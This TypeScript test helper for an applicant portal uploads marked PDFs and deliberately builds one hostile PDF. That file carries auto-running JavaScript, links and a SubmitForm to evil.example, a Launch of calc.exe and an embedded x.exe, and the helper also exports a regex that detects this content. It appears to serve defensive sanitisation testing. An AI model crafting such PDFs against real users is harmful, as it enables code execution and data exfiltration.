import { recordKinds } from '@jadara/contract/records/record-kinds'
import { stream, writePdf } from '../../documents/odd-papers.testing.ts'
import type { Applicant } from '../../testing/applicant.ts'
import { formOf } from '../../testing/forms.ts'
import type { TestPortal } from '../../testing/portal.ts'
import { noteInput } from '../concept-note/samples.testing.ts'
import { createRecordCalls } from '../records/calls.testing.ts'
import { samples } from '../records/samples.testing.ts'
import { createFullApplicant } from './contents/full-applicant.testing.ts'

/** An uploaded PDF; `words` has one unique word per page. */
export type MarkedPdf = { readonly name: string; readonly title: string; readonly words: readonly string[] }

/** Matches the active content of the hostile PDF. */
export const hostilePattern =
  /JavaScript|app\.alert|evil\.example|Launch|EmbeddedFile|"\/AA"|OpenAction|SubmitForm|calc\.exe|x\.exe/
export const hostileTitle = 'Paper 3'

/** Creates an applicant who has uploaded every kind of PDF, in the order of the dossier. Each has one to three pages with unique words; one is hostile. */
export async function createMarkedApplicant(test: TestPortal): Promise<{ who: Applicant; files: readonly MarkedPdf[] }> {
  const who = await createFullApplicant(test)
  const files: MarkedPdf[] = []
  const nextFile = (title: string) => {
    const number = files.length + 1
    const words = Array.from({ length: 1 + (number % 3) }, (_, page) => `PROOF${number}X${page + 1}`)
    const file = { name: `proof-${number}.pdf`, title, words }
    files.push(file)
    return { name: file.name, bytes: title === hostileTitle ? createHostilePdf(words) : createPdf(words) }
  }
  const expectAccepted = async (what: string, answer: Promise<{ readonly status: number; readonly body: unknown }>) => {
    const { status, body } = await answer
    if (status !== 200 && status !== 201) throw new Error(`${what} was refused with ${status} ${JSON.stringify(body)}`)
  }
  await expectAccepted('the CV', who.post('/api/uploadfile', formOf({ type: 6 }, nextFile('Curriculum vitae'))))
  for (const { name } of recordKinds.filter(({ file }) => file)) {
    const calls = createRecordCalls(name, who)
    // The newest record is listed first.
    for (const { id, paperTitle } of (await calls.rows()) as readonly { id: number; paperTitle?: string }[]) {
      const changes = name === 'journal' ? { paperTitle } : {}
      const title = String(samples[name].values[samples[name].titleField] ?? '')
      await expectAccepted(name, calls.put(id, changes, nextFile(name === 'journal' ? String(paperTitle) : title)))
    }
  }
  await expectAccepted('the note', who.post('/api/ConceptNote', formOf(noteInput, nextFile(noteInput.proposalTitle))))
  return { who, files }
}

const font = '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>'
const resources = '/MediaBox [0 0 595 842] /Resources <</Font <</F1 2 0 R>>>>'
const drawText = (word: string) => stream(`BT /F1 24 Tf 60 400 Td (${word}) Tj ET`)

/** A PDF with one word per page. The objects in `more` are numbered from 4 + 2 × pages. */
function createPdf(words: readonly string[], { root = '', page = '', more = [] as readonly string[] } = {}): Buffer {
  const kids = words.map((_, index) => `${4 + 2 * index} 0 R`).join(' ')
  return writePdf([
    `<</Type /Catalog /Pages 3 0 R ${root}>>`,
    font,
    `<</Type /Pages /Kids [${kids}] /Count ${words.length}>>`,
    ...words.flatMap((word, index) => [
      `<</Type /Page /Parent 3 0 R ${resources} /Contents ${5 + 2 * index} 0 R ${page}>>`,
      drawText(word),
    ]),
    ...more,
  ])
}

/** A PDF with every kind of active content. */
function createHostilePdf(words: readonly string[]): Buffer {
  const [script, link, start, send, embeddedFile] = Array.from({ length: 5 }, (_, index) => `${4 + 2 * words.length + index} 0 R`)
  return createPdf(words, {
    root: `/OpenAction ${script} /AA <</WC ${script}>> /Names <</JavaScript <</Names [(a) ${script}]>> /EmbeddedFiles <</Names [(x) ${embeddedFile}]>>>>`,
    page: `/AA <</O ${script}>> /Annots [${link} ${start} ${send}]`,
    more: [
      '<</Type /Action /S /JavaScript /JS (app.alert\\(1\\))>>',
      '<</Type /Annot /Subtype /Link /Rect [0 0 500 500] /A <</S /URI /URI (https://evil.example/)>>>>',
      '<</Type /Annot /Subtype /Link /Rect [0 0 500 500] /A <</S /Launch /F (calc.exe)>>>>',
      '<</Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A <</S /SubmitForm /F (https://evil.example/)>>>>',
      '<</Type /Filespec /F (x.exe) /EF <</F 2 0 R>> /Desc (EmbeddedFile)>>',
    ],
  })
}
